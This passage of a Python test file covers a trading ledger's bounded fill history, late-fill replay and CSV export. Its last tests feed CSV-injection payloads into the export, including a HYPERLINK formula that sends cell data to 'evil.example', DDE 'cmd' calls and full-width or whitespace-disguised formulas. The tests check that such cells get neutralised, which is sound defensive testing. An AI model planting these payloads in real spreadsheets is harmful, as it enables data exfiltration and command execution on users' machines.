        assert money_of(got) == money_of(want)
    else:
        assert [getattr(got, name) for name in _ORDER_FREE] == [getattr(want, name) for name in _ORDER_FREE]
    assert bounded.fill_count("BTCUSDT") == unbounded.fill_count("BTCUSDT") == len(items)
    state = bounded._symbols["BTCUSDT"]
    assert len(state.history) < kept + 2 * state.sums_every
    assert state.rebuilt(state.history).sums() == state.sums()  # the base plus the history is the state


def test_a_long_day_keeps_a_bounded_history_and_the_exact_money() -> None:
    """50,000 fills in one symbol: the ledger holds about HISTORY_KEPT of them and the same figures as one that
    holds all; a fill a few minutes late still replays exactly, one from before the kept history is counted."""
    fills = [
        fill("Buy" if (n * 7) % 5 < 3 else "Sell", "0.01", str(60_000 + (n * 37) % 400), "0.001", time_ms=10_000 + n)
        for n in range(50_000)
    ]
    late, ancient = fills.pop(49_000), fills.pop(100)
    bounded, everything = Ledger(), Ledger(history_kept=10**9)
    bounded.apply_fills(fills[:20_000])  # the start replay: one batch
    for item in fills[20_000:]:
        bounded.apply_fill(item)
    everything.apply_fills(fills)
    state = bounded._symbols["BTCUSDT"]
    assert HISTORY_KEPT <= len(state.history) < HISTORY_KEPT + SUMS_EVERY
    assert money_of(bounded.entries()[0]) == money_of(everything.entries()[0])
    for ledger in (bounded, everything):
        ledger.apply_fill(late)
    assert bounded.beyond_history == 0 and bounded.reordered == 1
    assert money_of(bounded.entries()[0]) == money_of(everything.entries()[0])
    for ledger in (bounded, everything):
        ledger.apply_fill(ancient)
    assert bounded.beyond_history == 1
    got, want = bounded.entries()[0], everything.entries()[0]
    assert [getattr(got, name) for name in _ORDER_FREE] == [getattr(want, name) for name in _ORDER_FREE]
    assert bounded.fill_count("BTCUSDT") == 50_000


def test_a_reconcile_after_the_history_was_folded_places_its_leg_after_the_base() -> None:
    ledger = Ledger(history_kept=10)
    for n in range(40):
        ledger.apply_fill(fill("Buy", "1", str(100 + n), time_ms=n))
    state = ledger._symbols["BTCUSDT"]
    assert state.folded and state.base[0] > 0 and len(state.history) < 20  # base[0]: the position
    entry = ledger.reconcile_position("BTCUSDT", D("42"), D("90"), 1_000)
    assert entry is not None and entry.position == 42 and entry.update_source is UpdateSource.External_trade
    with localcontext(MONEY_CONTEXT):
        assert_identities(entry)
    assert ledger._symbols["BTCUSDT"].history[0][1] is UpdateSource.External_trade
    assert ledger.legs_after_base == 1


def test_a_held_history_folds_only_once_released() -> None:
    ledger = Ledger(history_kept=10)
    ledger.hold_history()
    ledger.apply_fills([fill("Buy", "1", "100", time_ms=n) for n in range(40)])
    assert len(ledger._symbols["BTCUSDT"].history) == 40
    ledger.release_history()
    assert 10 <= len(ledger._symbols["BTCUSDT"].history) < 11 and ledger._symbols["BTCUSDT"].folded


def test_a_late_fill_replays_from_the_nearest_copy_of_the_sums_not_the_whole_history(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A fill a few places late on a symbol holding 10,000 fills costs about SUMS_EVERY applies, not 10,000."""
    from exchange import ledger as ledger_module

    fills = [fill("Buy" if n % 3 else "Sell", "0.01", str(100 + n % 9), time_ms=n) for n in range(12_000)]
    late = fills.pop(11_990)
    ledger, everything = Ledger(), Ledger(history_kept=10**9)
    for target in (ledger, everything):
        target.apply_fills(fills)
    applies = 0
    original = ledger_module._SymbolLedger.apply

    def counting(self, item, source):
        nonlocal applies
        applies += 1
        return original(self, item, source)

    monkeypatch.setattr(ledger_module._SymbolLedger, "apply", counting)
    ledger.apply_fill(late)
    assert ledger.reordered == 1 and applies <= SUMS_EVERY + 10
    monkeypatch.undo()
    everything.apply_fill(late)
    assert money_of(ledger.entries()[0]) == money_of(everything.entries()[0])


def test_history_kept_must_be_positive() -> None:
    with pytest.raises(ValueError):
        Ledger(history_kept=0)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_text_that_could_start_a_formula_is_neutralised_and_numbers_stay_numbers(text: str) -> None:
    """OWASP "CSV Injection": a text cell starting with = + - @ tab or CR gets a leading quote; the ledger's own
    numbers are written as numbers, a negative P&L included."""
    entry = LedgerEntry(symbol=text, pnl=D("-1.5"), position=D("-0.25"), side=text.upper(), update_time=1700)
    out = io.StringIO()
    write_csv([entry], out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert row["symbol"] == "'" + text
    assert row["side"] == "'" + text.lower()  # the CSV's lower-case side, neutralised the same way
    assert (row["pnl"], row["position"], row["update_time"]) == ("-1.5", "-0.25", "1700")
    assert all(not cell.startswith(FORMULA_TRIGGERS) for cell in row.values() if not _number(cell))


def test_csv_plain_text_is_left_alone() -> None:
    entry = LedgerEntry(symbol="BTCUSDT", side="Buy", pnl=D("2"))
    assert csv_text("BTCUSDT") == "BTCUSDT" and csv_text("") == ""
    out = io.StringIO()
    write_csv([entry], out)
    row = out.getvalue().splitlines()[1].split(",")
    assert (row[0], row[1], row[CSV_COLUMNS.index("side")]) == ("BTCUSDT", "2", "buy")


def _number(cell: str) -> bool:
    try:
        D(cell)
    except ArithmeticError:
        return False
    return True


def test_csv_a_carriage_return_inside_a_text_cell_cannot_start_a_row() -> None:
    """A bare CR is a line break to a spreadsheet: unquoted, ``X\\r=cmd`` would start a row with a formula."""
    entry = LedgerEntry(symbol="X\r=cmd|' /C calc'!A0", pnl=D("-1.5"))
    out = io.StringIO()
    write_csv([entry], out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 2
    assert (rows[1][0], rows[1][1]) == ("X\r=cmd|' /C calc'!A0", "-1.5")


@pytest.mark.parametrize(
    "text",
    [
        " =1+1",  # LibreOffice's "trim spaces" import and Sheets drop the space, then read a formula
        "\u3000=1+1",  # an ideographic space
        "\xa0@SUM(A1)",
        "\uff1d1+1",  # full-width equals sign: Excel in East Asian locales takes it for "="
        "\ufe662+3",  # small equals sign
        "\uff0bcmd|' /C calc'!A0",  # full-width plus
        "\uff0d2+3",  # full-width hyphen-minus
        "\uff20SUM(1+1)",  # full-width commercial at
        "|cmd",  # a DDE call without its "=", which some importers complete
    ],
)
def test_csv_text_disguised_formulas_are_neutralised(text: str) -> None:
    """A formula behind leading whitespace or spelt in a compatibility form (full-width, small) is a formula to
    some spreadsheet too: it gets the leading quote."""
    entry = LedgerEntry(symbol=text, pnl=D("-1.5"))
    out = io.StringIO()
    write_csv([entry], out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert row["symbol"] == "'" + text
    assert row["pnl"] == "-1.5"
